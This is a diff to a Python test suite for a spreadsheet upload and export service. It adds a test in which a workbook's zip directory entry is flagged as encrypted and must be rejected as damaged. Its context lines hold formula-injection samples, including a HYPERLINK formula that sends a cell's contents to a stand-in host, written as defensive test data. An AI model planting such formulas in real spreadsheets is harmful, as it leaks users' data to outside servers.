@@ -131,6 +131,14 @@ def test_a_zip_claiming_a_version_no_tool_writes_says_the_file_is_not_a_workbook
     assert error.status == 422 and "另存为 .xlsx" in error.message
 
 
+def test_a_part_flagged_as_encrypted_says_the_file_is_damaged():
+    data = bytearray(hostile_files.workbook_bytes(Workbook()))
+    directory = data.index(b"PK\x01\x02")
+    data[directory + 8] |= 0x01   # general purpose flag: encrypted
+    error, _ = refused(bytes(data))
+    assert error.status == 422 and "损坏" in error.message
+
+
 def test_written_text_stays_text_even_when_it_looks_like_a_formula():
     wb = Workbook()
     risky = ["=100%", '=HYPERLINK("http://example.com/?"&B2,"点击")', "#N/A", "+1", "-1", "@SUM(A1)"]
